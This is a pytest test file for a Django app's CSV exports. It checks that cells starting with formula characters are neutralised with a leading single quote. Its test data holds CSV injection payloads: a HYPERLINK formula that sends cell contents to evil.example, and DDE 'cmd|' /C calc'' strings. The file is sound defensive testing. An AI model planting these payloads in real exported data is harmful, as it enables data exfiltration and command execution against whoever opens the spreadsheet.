"""CSV formula injection: no exported cell starts as a formula a spreadsheet would run.

Each CSV is read back with a real CSV reader, cell by cell, as a spreadsheet reads a file it opens:
a cell is a formula when its first character is =, +, -, @, a tab or a carriage return (OWASP's list);
a neutralised cell starts with a single quote instead, which the spreadsheet reads as "text".
Runs on SQLite (Python's csv writer) and, in CI, on PostgreSQL (COPY writes the CSV).
"""

import csv
import html
import io
import zipfile

import pytest
from django.core.management import call_command

from initiatives.exports import EXPORTS, export_blocks
from initiatives.exports.bulk import bulk_zip_path, dictionary_markdown
from initiatives.exports.columns import csv_blocks
from initiatives.exports.formulas import FORMULA_STARTS, neutralise
from initiatives.ingest import pipeline
from initiatives.models import Feed
from tests.httpserver import rss

from .factories import make_actor, make_article, make_framework, make_organisation, make_stance, make_summit

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def read(blocks) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(blocks).decode("utf-8-sig"), newline="")))


def assert_no_formula(rows, where):
    for number, row in enumerate(rows, 1):
        for cell in row:
            assert not runs_as_formula(cell), f"{where}, row {number}: {cell!r} would run as a formula"


@pytest.fixture
def hostile_world():
    """Every kind of record with text that would run as a formula, in each of its text columns."""
    one, two, three, four, five, six = HOSTILE
    actor = make_actor(code="HX1", name=one, official_name=two, region=three, website=four)
    member = make_actor(code="HX2", name=five)
    make_organisation(code="HXO", name=six, members=[actor, member])
    framework = make_framework(slug="-hostile", name=one, short_name=two, official_url=three, summary=four)
    summit = make_summit(slug="hostile-summit", name=three, city=four, venue=five)
    source = make_article(title=one, publisher=two, url="https://news.example.org/=1+1")
    make_stance(actor=actor, framework=framework, evidence=six, source=source, summit=summit)
    from initiatives.models import Vote

    Vote.objects.create(framework=framework, source=source, symbol="=1+1", meeting_record=one, note=two)
    return {"actor": actor, "framework": framework}


@pytest.mark.parametrize("kind", [*EXPORTS, "matrix"])
def test_no_exported_cell_runs_as_a_formula(hostile_world, kind, client):
    response = client.get(f"/export/{kind}.csv")
    assert response.status_code == 200
    rows = read(response.streaming_content)
    assert_no_formula(rows, f"/export/{kind}.csv")
    assert any(cell.startswith("'") for row in rows for cell in row), (
        "the hostile cells are exported, as text"
    )


def test_a_neutralised_cell_reads_back_as_the_owasp_text_form(hostile_world, client):
    rows = read(client.get("/export/actors.csv").streaming_content)
    header, *records = rows
    hostile = next(dict(zip(header, r, strict=True)) for r in records if r[header.index("code")] == "HX1")
    assert hostile["name"] == "'" + HYPERLINK
    assert hostile["official_name"] == "'+1+cmd|' /C calc'!A0"
    assert hostile["region"] == "'-2+3"
    assert hostile["website"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    member = next(dict(zip(header, r, strict=True)) for r in records if r[header.index("code")] == "HX2")
    assert member["name"] == "'\t=1+1"
    # Ordinary text is untouched: the mark is only where a spreadsheet would run the cell.
    assert (
        next(dict(zip(header, r, strict=True)) for r in records if r[0] and r[header.index("code")] == "HXO")[
            "code"
        ]
        == "HXO"
    )


def test_a_feed_item_titled_as_a_formula_reaches_the_public_csv_as_text(web, client):
    item = (html.escape(HYPERLINK, quote=False), "https://evil.example/story")
    feed = Feed.objects.create(url=web.add("/feed.xml", rss(item), content_type="application/rss+xml"))
    assert pipeline.poll_feed(feed.pk).status == "ok"
    rows = read(client.get("/export/articles.csv").streaming_content)
    header, *records = rows
    titles = [r[header.index("title")] for r in records]
    assert titles == ["'" + HYPERLINK]
    assert_no_formula(rows, "/export/articles.csv")


def test_the_bulk_zip_and_the_command_write_no_formula(hostile_world, tmp_path):
    with zipfile.ZipFile(bulk_zip_path()) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                assert_no_formula(read([archive.read(name)]), f"download.zip:{name}")
    output = tmp_path / "stances.csv"
    call_command("export_csv", "stances", "--output", str(output))
    assert_no_formula(read([output.read_bytes()]), "export_csv stances")


def test_the_python_writer_and_the_database_writer_give_the_same_bytes(hostile_world):
    # On PostgreSQL export_blocks is COPY; csv_blocks over the same values is the Python writer.
    for kind, export in EXPORTS.items():
        _name, database = export_blocks(kind, {})
        values = export.values(export.filtered({}))
        assert b"".join(database) == b"".join(csv_blocks(export.header, values.iterator())), kind


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    rows = read(csv_blocks(["a", "b"], [["x\r=1+1", "y"], ["z\n@SUM(1)", "\\."]]))
    assert rows == [["a", "b"], ["x\r=1+1", "y"], ["z\n@SUM(1)", "\\."]]


def test_neutralising_is_idempotent_and_leaves_other_cells_alone():
    for cell in HOSTILE:
        assert neutralise(neutralise(cell)) == neutralise(cell) == "'" + cell
    for cell in ["Bletchley Declaration", "'quoted", "", " =spaced", 5, None, "2025-09", "0.750"]:
        assert neutralise(cell) == cell


def test_the_data_dictionary_says_how_formula_cells_are_written(client):
    page = client.get("/data/dictionary/").content.decode()
    assert "single quote" in page and "OWASP" in page
    assert "single quote" in dictionary_markdown()
